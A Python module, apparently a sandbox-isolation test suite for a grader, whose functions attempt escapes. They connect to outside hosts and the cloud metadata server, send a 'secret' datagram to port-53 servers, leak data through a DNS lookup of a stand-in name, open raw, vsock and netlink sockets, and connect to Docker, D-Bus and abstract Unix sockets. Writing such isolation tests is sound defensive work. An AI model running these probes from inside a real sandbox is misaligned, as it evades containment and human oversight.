"""Attacks that reach for a network, or for a socket that belongs to somebody else."""

import contextlib
import os
import socket
import stat
from pathlib import Path

_SECONDS = 0.5
_ELSEWHERE = ("1.1.1.1", "8.8.8.8", "169.254.169.254", "192.168.0.1", "10.0.0.1", "172.17.0.1")


def connects_by_tcp() -> str:
    """TCP to the internet, to a cloud's metadata server, to the host."""
    for host in _ELSEWHERE:
        for port in (80, 53):
            with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=_SECONDS):
                return f"{host}:{port}"
    return ""


def connects_by_tcp_over_ipv6() -> str:
    """TCP over IPv6."""
    with socket.create_connection(("2606:4700:4700::1111", 80), timeout=_SECONDS):
        return "connected"


def sends_by_udp() -> str:
    """A datagram to a name server."""
    for host in _ELSEWHERE:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"secret", (host, 53))
            return host
    return ""


def asks_a_name_server() -> str:
    """A lookup of a name, which can carry data out."""
    with contextlib.suppress(OSError):
        return str(socket.getaddrinfo("secret.example.com", 80))
    return ""


def sends_raw_packets() -> str:
    """Raw and packet sockets."""
    for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET6, socket.SOCK_RAW)):
        with contextlib.suppress(OSError), socket.socket(family, kind, 1):
            return f"family {family}"
    return ""


def opens_a_vsock() -> str:
    """A socket to the hypervisor."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return "opened"


def opens_a_netlink_socket() -> str:
    """Netlink: routes, firewall, audit."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0):
        return "opened"


def opens_a_crypto_socket() -> str:
    """AF_ALG, the kernel's cryptography, and other rare families."""
    for family in (38, 31, 29, 17, 21, 30, 44):  # ALG, BLUETOOTH, CAN, PACKET, RDS, TIPC, XDP
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_SEQPACKET if family == 38 else socket.SOCK_DGRAM):  # noqa: PLR2004 - AF_ALG
            return f"family {family}"
    return ""


def asks_for_rare_protocols() -> str:
    """Protocols beside TCP and UDP, for some of which a kernel loads its least tested parts."""
    for kind, protocol in ((socket.SOCK_STREAM, 262), (socket.SOCK_DGRAM, 136), (socket.SOCK_SEQPACKET, 132), (6, 33)):  # MPTCP, UDP-Lite, SCTP, DCCP
        for family in (socket.AF_INET, socket.AF_INET6):
            with contextlib.suppress(OSError), socket.socket(family, kind, protocol):
                return f"protocol {protocol}"
    return ""


def connects_to_sockets_in_the_file_system() -> str:
    """Unix sockets of services: D-Bus, Docker, the warm process, neighbours."""
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if f"{folder}/{name}" not in ("//proc", "//sys", "//usr", "/run/grader/kernel") and name != "site-packages"]
        for name in files:
            path = Path(folder, name)
            with contextlib.suppress(OSError):
                if stat.S_ISSOCK(path.stat().st_mode) and not path.is_relative_to("/run/grader/scratch"):
                    with socket.socket(socket.AF_UNIX) as service:
                        service.connect(str(path))
                        return str(path)
    return ""


def connects_to_abstract_sockets() -> str:
    """Unix sockets without a file, which no mount hides."""
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        name = line.split()[-1]
        if name.startswith("@"):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as service:
                service.connect("\0" + name[1:])
                return name
    return ""
